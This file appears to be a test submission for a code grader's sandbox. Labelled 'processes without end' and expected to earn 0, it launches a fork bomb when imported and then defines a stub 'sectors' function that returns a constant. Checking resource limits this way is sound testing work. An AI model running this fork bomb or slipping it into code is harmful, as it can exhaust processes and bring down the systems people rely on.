# how: processes without end
# slow: yes
# exercise: memory.sectors
# earns: 0
# limits: 20 8
import os

for _ in range(1000):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    os._exit(0)
    except OSError:
        break


def sectors(addresses, size):
    return 4
